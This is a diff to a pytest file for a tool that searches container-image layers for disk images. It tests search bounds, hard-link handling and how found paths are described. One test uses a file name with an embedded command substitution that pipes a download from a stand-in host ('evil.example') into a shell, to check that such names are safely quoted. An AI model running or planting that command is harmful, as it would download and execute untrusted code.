@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zlib
 from pathlib import Path
 
 import pytest
@@ -64,8 +65,10 @@ def test_what_is_no_disk_is_not_disk_like(tmp_path: Path) -> None:
     assert _sniffed(_at(510, b"\x55\xaa")) is None
 
 
-def f(path: str, size: int = 2 * MiB, offset: int = 512) -> LayerMember:
-    return LayerMember(path, FILE, 0, offset=offset, size=size)
+def f(path: str, size: int = 2 * MiB, offset: int | None = None) -> LayerMember:
+    # Where a layer tar would hold its data: one place per path unless told (the same place is one file).
+    where = 512 * (2 + zlib.crc32(path.encode())) if offset is None else offset
+    return LayerMember(path, FILE, 0, offset=where, size=size)
 
 
 def test_the_search_walks_breadth_first_and_follows_no_link() -> None:
@@ -94,7 +97,82 @@ def test_the_search_is_bounded_in_headers_and_entries(monkeypatch: pytest.Monkey
     assert len(asked) == 5 and len(found.found) == 5
     assert found.stopped == "the search stops after 5 files of 1.0 MiB or more"
     monkeypatch.setattr(anywhere, "MAX_HEADERS", 100)
-    monkeypatch.setattr(anywhere, "MAX_VISITED", 10)
+    monkeypatch.setattr(anywhere, "MAX_VISITED", 30)
+    before = tree.read
     found = search(tree, lambda path, member: Sniffed("qcow2"))
-    # The root's two directories, then eight of d's files.
-    assert len(found.found) == 8 and found.stopped == "the search stops after 10 entries"
+    # The root and its two directories (3 read), d and its 20 files (21): e would read 21 more, past the bound,
+    # so it is not listed at all — not one of its entries looked at.
+    assert len(found.found) == 20 and found.stopped == "the search stops after 30 entries"
+    assert tree.read - before == 24
+
+
+def test_a_huge_directory_is_not_read_past_the_bound(monkeypatch: pytest.MonkeyPatch) -> None:
+    tree = MergedTree([[f("image/podvm.qcow2"), *(f(f"var/{n:05}") for n in range(1000))]])
+    monkeypatch.setattr(anywhere, "MAX_VISITED", 100)
+    asked: list[str] = []
+    found = search(tree, lambda path, member: asked.append(path) or Sniffed("qcow2"))  # type: ignore[func-returns-value]
+    # The disk met first is found; of var/, not one entry is looked at (no header read, none stat'ed).
+    assert [d.path for d in found.found] == ["/image/podvm.qcow2"] and asked == ["/image/podvm.qcow2"]
+    assert found.stopped == "the search stops after 100 entries"
+
+
+def _chain(depth: int, name: str = "disk.qcow2") -> str:
+    return "/".join(["a"] * depth + [name])
+
+
+def test_the_search_looks_no_deeper_than_its_bound() -> None:
+    # A disk with 15 directories above it is found; one with 16 is not, and the answer says the search stopped.
+    deepest, deeper = _chain(anywhere.MAX_DEPTH - 1), _chain(anywhere.MAX_DEPTH, "deeper.qcow2")
+    found = search(MergedTree([[f(deepest), f(deeper), *(LayerMember(_chain(n, "d"), DIR) for n in range(40))]]),
+                   lambda path, member: Sniffed("qcow2"))
+    assert [d.path for d in found.found] == [f"/{deepest}"]
+    assert found.stopped == "the search stops after 16 levels"
+
+def test_past_the_depth_the_walk_goes_on_with_what_is_shallower(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(anywhere, "MAX_DEPTH", 2)
+    tree = MergedTree([[f("a/b/deep.qcow2"), f("a/x.qcow2"), f("c/y.qcow2"), f("d/z.qcow2")]])
+    found = search(tree, lambda path, member: Sniffed("qcow2"))
+    assert [d.path for d in found.found] == ["/a/x.qcow2", "/c/y.qcow2", "/d/z.qcow2"]
+    assert found.stopped == "the search stops after 2 levels"
+    # Another bound reached is named with it.
+    monkeypatch.setattr(anywhere, "MAX_DIRECTORIES", 3)
+    found = search(tree, lambda path, member: Sniffed("qcow2"))
+    assert [d.path for d in found.found] == ["/a/x.qcow2", "/c/y.qcow2"]
+    assert found.stopped == "the search stops after 2 levels and 3 directories"
+
+
+def test_the_search_lists_a_bounded_number_of_directories(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(anywhere, "MAX_DIRECTORIES", 4)
+    tree = MergedTree([[f("a/x.qcow2"), f("b/y.qcow2"), f("c/z.qcow2"), f("d/w.qcow2")]])
+    # The root, a, b, c: four directories listed; d is not.
+    found = search(tree, lambda path, member: Sniffed("qcow2"))
+    assert [d.path for d in found.found] == ["/a/x.qcow2", "/b/y.qcow2", "/c/z.qcow2"]
+    assert found.stopped == "the search stops after 4 directories"
+
+
+def test_hard_links_of_one_file_cost_one_header(monkeypatch: pytest.MonkeyPatch) -> None:
+    # 300 names of one file (a tar's hard links carry their target's data offset): one header read; the bound on
+    # headers counts files, not names, so the file after them is still looked at.
+    monkeypatch.setattr(anywhere, "MAX_HEADERS", 2)
+    names = [f(f"links/{n:03}.raw", offset=4096) for n in range(300)]
+    asked: list[str] = []
+    found = search(MergedTree([[*names, f("zz/other.qcow2")]]),
+                   lambda path, member: asked.append(path) or None)  # type: ignore[func-returns-value]
+    assert asked == ["/links/000.raw", "/zz/other.qcow2"] and found.stopped == ""
+    # Names found are bounded all the same (here by the headers bound, 2).
+    found = search(MergedTree([[*names, f("zz/other.qcow2")]]), lambda path, member: Sniffed("raw", "GPT"))
+    assert len(found.found) == 2 and found.stopped == "the search stops after 2 disk-like files"
+
+
+def test_a_find_is_described_as_one_shell_word_and_qed_and_luks_as_not_read() -> None:
+    def described(path: str, sniffed: Sniffed) -> str:
+        return anywhere.DiskLike(path, f(path.lstrip("/")), sniffed).describe()
+
+    assert described("/img/$(curl -s evil.example|sh)/x.qcow2", Sniffed("qcow2")) == \
+        "'/img/$(curl -s evil.example|sh)/x.qcow2' (qcow2, 2.0 MiB)"
+    assert described("/a.qcow2 (qcow2, 1 MiB), /y", Sniffed("qcow2")) == \
+        "'/a.qcow2 (qcow2, 1 MiB), /y' (qcow2, 2.0 MiB)"
+    assert described("/a\nb.img", Sniffed("raw", "GPT")) == "$'/a\\x0ab.img' (raw GPT, 2.0 MiB)"
+    assert described("/vm.qed", Sniffed("qed")) == "/vm.qed (qed, 2.0 MiB: cdisk does not read qed)"
+    assert described("/vm.luks", Sniffed("luks")) == "/vm.luks (luks, 2.0 MiB: cdisk does not read an encrypted disk)"
+    assert Sniffed("qcow2").refused == "" and Sniffed("qed").refused
